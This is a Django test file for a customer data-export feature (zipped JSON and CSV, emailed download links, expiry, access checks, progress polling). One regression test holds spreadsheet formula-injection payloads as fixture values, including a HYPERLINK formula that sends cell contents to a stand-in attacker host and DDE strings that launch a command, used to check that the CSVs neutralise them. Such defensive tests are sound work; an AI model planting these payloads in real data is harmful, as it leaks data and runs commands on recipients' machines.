"""001: the customer can export all their data (JSON and CSV in a zip) at any time,
including after cancellation or an expired trial."""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from privacy import services
from privacy.models import DataExport, ExportStatus
from subscriptions.models import Invoice, Price, Subscription, SubscriptionStatus
from subscriptions.services.checkout import subscribe
from tests.factories import UserFactory
from tests.privacy.conftest import PERSONAL

pytestmark = pytest.mark.django_db(transaction=True)

EXPORT_PAGE = "/en/account/data/"


def _zip(response):
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def _csv_rows(archive, name):
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def _download_path(message):
    return re.search(r"http://[^/\s]+(/en/account/data/exports/[\w-]+/)", message.body).group(1)


@pytest.fixture
def subscribed(person, catalog, add_card):
    add_card(person)
    price = Price.objects.get(plan=catalog["pro"], interval="month", currency="EUR")
    subscribe(user=person, price=price, now=timezone.now())
    person.language = "en"
    person.save(update_fields=["language"])
    return person


def test_the_zip_holds_data_json_and_a_csv_per_table_and_the_link_is_emailed(
    subscribed, client, mailoutbox, support_ticket
):
    person = subscribed
    support_ticket(person, body="Ma facture est fausse.")
    client.force_login(person)
    mailoutbox.clear()

    response = client.post(EXPORT_PAGE)

    assert response.status_code == 302
    export = DataExport.objects.get(user=person)
    assert (export.status, export.progress) == (ExportStatus.READY, 100)
    assert export.expires_at == export.finished_at + timedelta(days=7)
    [message] = mailoutbox
    assert message.to == [PERSONAL["email"]]
    assert message.subject == "Your data export is ready"
    path = _download_path(message)
    assert export.token in path

    download = client.get(path)
    assert download.status_code == 200
    assert download["Content-Type"] == "application/zip"
    assert download["Content-Disposition"].startswith("attachment; filename=")
    archive = _zip(download)
    names = set(archive.namelist())
    assert {
        "data.json",
        "profile.csv",
        "subscriptions.csv",
        "invoices.csv",
        "invoice_lines.csv",
        "payment_attempts.csv",
        "audit_events.csv",
        "billing_account.csv",
    } <= names

    data = json.loads(archive.read("data.json"))
    tables = data["tables"]
    invoice = Invoice.objects.get(user=person)
    assert [i["number"] for i in tables["invoices"]] == [invoice.number]
    assert tables["invoices"][0]["total"] == invoice.total
    assert tables["invoice_lines"][0]["invoice_id"] == invoice.pk
    assert [s["status"] for s in tables["subscriptions"]] == ["active"]
    assert {"card_saved", "data_export_requested"} <= {e["kind"] for e in tables["audit_events"]}
    assert tables["profile"][0]["email"] == PERSONAL["email"]
    assert tables["profile"][0]["name"] == PERSONAL["name"]

    # The same rows in the CSV files, which open in a spreadsheet.
    invoices = _csv_rows(archive, "invoices.csv")
    assert [(r["number"], r["total"], r["currency"]) for r in invoices] == [
        (invoice.number, "58.80", "EUR")
    ]
    assert _csv_rows(archive, "profile.csv")[0]["company"] == PERSONAL["company"]

    # Support tickets and their messages and files, found without naming them.
    if "support_tickets" in tables:
        assert tables["support_messages"][0]["body"] == "Ma facture est fausse."
        attached = tables["support_attachments"][0]["file"]
        assert archive.read(attached) == b"%PDF-1.4\n"
        assert "support_messages.csv" in names

    # Never a secret.
    text = archive.read("data.json").decode()
    assert "password" not in text
    assert "client_secret" not in text
    assert person.password not in text
    assert export.token not in text


def test_export_page_polls_progress_with_htmx_while_it_runs(person_client, person):
    export = DataExport.objects.create(
        user=person, token="t-running", status=ExportStatus.RUNNING, progress=42
    )

    page = person_client.get(EXPORT_PAGE)
    html = page.content.decode()
    assert '<progress id="export-progress-bar" max="100" value="42">' in html
    assert '<label for="export-progress-bar">Preparing your export</label>' in html
    assert 'hx-trigger="every 1s"' in html
    # Without JavaScript: a plain link to refresh, and no second button.
    assert 'href="/en/account/data/">Refresh this page to see the progress' in html
    assert '<button type="submit">Export my data</button>' not in html

    partial = person_client.get(EXPORT_PAGE, HTTP_HX_REQUEST="true")
    fragment = partial.content.decode()
    assert fragment.lstrip().startswith('<div id="export-progress"')
    assert "<html" not in fragment
    assert 'value="42"' in fragment
    assert "HX-Request" in partial["Vary"]

    export.status, export.progress = ExportStatus.READY, 100
    export.expires_at = timezone.now() + timedelta(days=7)
    export.save()
    done = person_client.get(EXPORT_PAGE, HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in done  # polling stops
    assert f"/en/account/data/exports/{export.token}/" in done


def test_a_second_export_while_one_runs_is_refused(person_client, person):
    DataExport.objects.create(user=person, token="t-queued", status=ExportStatus.QUEUED)

    response = person_client.post(EXPORT_PAGE, follow=True)

    assert DataExport.objects.filter(user=person).count() == 1
    assert "Your export is already being prepared." in response.content.decode()
    with pytest.raises(services.PrivacyError):
        services.export_request(user=person, now=timezone.now())


def test_a_stuck_export_does_not_block_a_new_one(person, mailoutbox):
    now = timezone.now()
    stuck = DataExport.objects.create(
        user=person,
        token="t-stuck",
        status=ExportStatus.RUNNING,
        created_at=now - timedelta(hours=2),
    )

    services.export_request(user=person, now=now)

    stuck.refresh_from_db()
    assert stuck.status == ExportStatus.FAILED
    assert DataExport.objects.filter(user=person, status=ExportStatus.READY).count() == 1


def test_building_twice_does_not_redo_a_finished_export(person, mailoutbox):
    export = services.export_request(user=person, now=timezone.now())
    export.refresh_from_db()
    name = export.file.name

    again = services.export_build(export=export, now=timezone.now())

    assert (again.status, again.file.name) == (ExportStatus.READY, name)
    assert len(mailoutbox) == 1


def test_another_customer_gets_404_and_a_visitor_must_sign_in(person, client, mailoutbox):
    export = services.export_request(user=person, now=timezone.now())
    path = f"/en/account/data/exports/{export.token}/"

    assert client.get(path).status_code == 302  # to the sign-in page
    assert "/auth/login/" in client.get(path)["Location"]
    client.force_login(UserFactory())
    assert client.get(path).status_code == 404
    assert client.get("/en/account/data/exports/not-a-token/").status_code == 404


def test_an_expired_link_is_refused_with_410_and_the_file_is_deleted(
    person_client, person, mailoutbox
):
    export = services.export_request(user=person, now=timezone.now())
    export.refresh_from_db()
    path = f"/en/account/data/exports/{export.token}/"
    assert person_client.get(path).status_code == 200

    later = timezone.now() + timedelta(days=7, seconds=1)
    with time_machine.travel(later, tick=False):
        gone = person_client.get(path)
        assert gone.status_code == 410
        assert "This link has expired" in gone.content.decode()
        assert services.exports_expire(now=later) == 1
    export.refresh_from_db()
    assert export.status == ExportStatus.EXPIRED
    assert not export.file
    assert not any(p.is_file() for p in _exports_dir().rglob("*"))
    assert person_client.get(path).status_code == 410


def _exports_dir():
    from pathlib import Path

    from django.conf import settings

    return Path(settings.MEDIA_ROOT) / "private" / "exports"


def test_an_expired_trial_can_still_export(person_client, person, catalog, mailoutbox):
    now = timezone.now()
    Subscription.objects.create(
        user=person,
        plan=catalog["pro"],
        status=SubscriptionStatus.EXPIRED,
        currency="EUR",
        trial_started_at=now - timedelta(days=16),
        trial_ends_at=now - timedelta(days=1),
        ended_at=now - timedelta(days=1),
        purge_at=now + timedelta(days=6),
    )

    person_client.post(EXPORT_PAGE)

    export = DataExport.objects.get(user=person)
    assert export.status == ExportStatus.READY
    archive = _zip(person_client.get(f"/en/account/data/exports/{export.token}/"))
    subscriptions = json.loads(archive.read("data.json"))["tables"]["subscriptions"]
    assert [s["status"] for s in subscriptions] == ["expired"]


def test_the_archive_is_not_served_from_media(person, mailoutbox):
    export = services.export_request(user=person, now=timezone.now())
    export.refresh_from_db()
    assert _exports_dir() in (_exports_dir() / export.file.name).parents
    with pytest.raises(ValueError, match="no URL"):
        _ = export.file.url


def test_the_export_page_query_count_does_not_grow_with_exports(
    person_client, person, django_assert_max_num_queries
):
    now = timezone.now()
    DataExport.objects.create(user=person, token="t-0", status=ExportStatus.FAILED)
    with CaptureQueriesContext(connection) as one:
        assert person_client.get(EXPORT_PAGE).status_code == 200
    for i in range(1, 9):
        DataExport.objects.create(
            user=person,
            token=f"t-{i}",
            status=ExportStatus.READY,
            size=2048,
            expires_at=now + timedelta(days=i),
        )
    with django_assert_max_num_queries(len(one)):
        assert person_client.get(EXPORT_PAGE).status_code == 200
    assert len(one) <= 4  # session, user, exports (+ one spare for the layout)
    with django_assert_max_num_queries(len(one)):
        assert person_client.get(EXPORT_PAGE, HTTP_HX_REQUEST="true").status_code == 200


def test_the_page_in_french(person_client, person):
    response = person_client.get("/fr/account/data/")
    assert response.status_code == 200
    assert '<html lang="fr">' in response.content.decode()


def test_progress_grows_table_by_table_to_100(person, monkeypatch, mailoutbox):
    seen = []
    original = services._progress_saver

    def recording(export):
        save = original(export)

        def record(percent):
            seen.append(percent)
            save(percent)

        return record

    monkeypatch.setattr(services, "_progress_saver", recording)

    export = services.export_request(user=person, now=timezone.now())

    export.refresh_from_db()
    assert len(seen) > 5
    assert seen == sorted(seen)
    assert seen[-1] < 100
    assert export.progress == 100


def test_a_failed_build_says_so_and_another_can_be_started(person_client, person, monkeypatch):
    def broken():
        raise RuntimeError("disk full")

    monkeypatch.setattr(services.inventory, "export_tables", broken)

    person_client.post(EXPORT_PAGE)

    export = DataExport.objects.get(user=person)
    assert export.status == ExportStatus.FAILED
    html = person_client.get(EXPORT_PAGE).content.decode()
    assert "could not be prepared" in html
    assert '<button type="submit">Export my data</button>' in html
    assert person_client.get(f"/en/account/data/exports/{export.token}/").status_code == 302


def test_an_export_of_a_deleted_account_is_dropped(person, mailoutbox):
    export = DataExport.objects.create(user=person, token="t-late")
    DataExport.objects.filter(pk=export.pk).delete()

    assert services.export_build(export=export, now=timezone.now()) == export
    assert not any(p.is_file() for p in _exports_dir().rglob("*"))


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(
    subscribed, client
):
    """Issue 13: a company named "=HYPERLINK(...)" ran as a formula in the customer's
    spreadsheet. Text starting with = + - @ tab or CR gets a leading ' in the CSV files;
    data.json keeps the text as it is, and numbers stay numbers."""
    person = subscribed
    formulas = {
        "company": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "address_line1": "+33 1 23 45 67 89",
        "address_line2": "-2+3+cmd|' /C calc'!A0",
        "city": "@SUM(1+1)*cmd|' /C calc'!A0",
        "postal_code": "\t=1+1",
    }
    for field, value in formulas.items():
        setattr(person, field, value)
    person.save()
    client.force_login(person)

    client.post(EXPORT_PAGE)

    export = DataExport.objects.get(user=person)
    archive = _zip(client.get(f"/en/account/data/exports/{export.token}/"))
    [profile] = _csv_rows(archive, "profile.csv")
    for field, value in formulas.items():
        assert profile[field] == "'" + value
    assert profile["name"] == PERSONAL["name"]  # ordinary text is left alone
    assert (
        json.loads(archive.read("data.json"))["tables"]["profile"][0]["company"]
        == (formulas["company"])
    )
    [invoice] = _csv_rows(archive, "invoices.csv")
    assert invoice["total"] == "58.80"  # a number, not text


def test_the_csv_files_are_for_people_and_data_json_keeps_every_detail(subscribed, client):
    """Issue 17: amounts in major units with a currency column, one row per object, no JSON
    in any cell, UTF-8 with a byte-order mark (Excel then reads the accents)."""
    person = subscribed
    client.force_login(person)
    client.post(EXPORT_PAGE)
    export = DataExport.objects.get(user=person)
    archive = _zip(client.get(f"/en/account/data/exports/{export.token}/"))
    tables = json.loads(archive.read("data.json"))["tables"]
    invoice = Invoice.objects.get(user=person)

    for name in archive.namelist():
        if not name.endswith(".csv"):
            continue
        raw = archive.read(name)
        assert raw.startswith(b"\xef\xbb\xbf"), name
        rows = _csv_rows(archive, name)
        assert len(rows) == len(tables[name.removesuffix(".csv")]), name  # one row per object
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(("{", "[")), (name, column, cell)

    [line] = _csv_rows(archive, "invoice_lines.csv")
    assert (line["amount"], line["currency"]) == ("49.00", "EUR")  # before tax, from the invoice
    [row] = _csv_rows(archive, "invoices.csv")
    assert (row["subtotal"], row["tax"], row["total"]) == ("49.00", "9.80", "58.80")
    assert row["buyer.name"] == PERSONAL["name"]  # the buyer in columns of its own
    assert row["buyer.city"] == PERSONAL["city"]
    issued = next(
        r for r in _csv_rows(archive, "audit_events.csv") if r["kind"] == "invoice_issued"
    )
    assert (issued["data.total"], issued["data.currency"]) == ("58.80", "EUR")
    [subscription] = _csv_rows(archive, "subscriptions.csv")
    assert (subscription["credit"], subscription["currency"]) == ("0.00", "EUR")

    # data.json: every value as stored, amounts in minor units, nested values nested.
    assert tables["invoices"][0]["total"] == invoice.total == 5880
    assert tables["invoices"][0]["buyer"]["name"] == PERSONAL["name"]
    assert tables["invoice_lines"][0]["amount"] == 4900
